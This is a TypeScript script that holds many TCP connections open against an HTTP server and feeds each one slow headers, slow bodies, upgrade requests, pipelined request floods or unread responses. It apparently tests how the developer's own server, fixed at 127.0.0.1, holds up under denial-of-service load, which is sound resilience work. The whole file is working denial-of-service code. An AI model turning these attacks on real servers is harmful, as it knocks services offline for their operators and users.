import { connect, type Socket } from 'node:net';

/** What an attacking connection sends: at once, and then again and again until it is closed. */
interface Attack {
  first: string;
  drip: string;
  /** It reads nothing of what the server sends. */
  isDeaf?: true;
}

const tenOf = (path: string): string => `GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`.repeat(10);

const attacks: Readonly<Record<string, Attack>> = {
  upgrade: { first: 'GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n', drip: '' },
  connection: { first: '', drip: '' },
  'slow-header': { first: 'GET / HTTP/1.1\r\nHost: a\r\n', drip: 'X: a\r\n' },
  'slow-body': {
    first:
      'POST /api/v2/auth/sign-in HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n' +
      'Content-Length: 1000\r\n\r\n{',
    drip: ' ',
  },
  pages: { first: tenOf('/sign_in'), drip: tenOf('/sign_in') },
  documents: { first: tenOf('/api/openapi.json'), drip: tenOf('/api/openapi.json') },
  'documents-unread': { first: tenOf('/api/openapi.json'), drip: '', isDeaf: true },
};
const dripEveryMs = 1_000;
/** A connection that was closed is opened again after this time, some later than others, so that they come evenly. */
const againAfterMs = { first: 500, last: 1_500 };

/**
 * Attacks a server until this process is killed: `attacker.js PORT ATTACK CONNECTIONS ADDRESS...`. Each address keeps
 * so many connections, and opens one again that was closed.
 */
function main(): void {
  const [port, name = '', count, ...addresses] = process.argv.slice(2);
  const attack = attacks[name];
  if (attack === undefined) {
    throw new Error(`There is no attack ${name}`);
  }
  let opened = 0;
  const open = (localAddress: string, againMs: number): void => {
    const socket: Socket = connect({ port: Number(port), host: '127.0.0.1', localAddress, allowHalfOpen: true });
    let timer: NodeJS.Timeout | undefined;
    socket.on('connect', () => {
      opened += 1;
      socket.write(attack.first);
      timer = attack.drip === '' ? undefined : setInterval(() => socket.write(attack.drip), dripEveryMs);
    });
    socket.on('error', () => undefined);
    socket.on('end', () => socket.destroy());
    socket.on('close', () => {
      clearInterval(timer);
      setTimeout(open, againMs, localAddress, againMs);
    });
    if (attack.isDeaf !== true) {
      socket.resume();
    }
  };
  for (const address of addresses) {
    for (let index = 0; index < Number(count); index += 1) {
      const { first, last } = againAfterMs;
      open(address, first + (index * (last - first)) / Number(count));
    }
  }
  process.on('SIGTERM', () => {
    process.stdout.write(`${opened}\n`, () => process.exit(0));
  });
}

main();
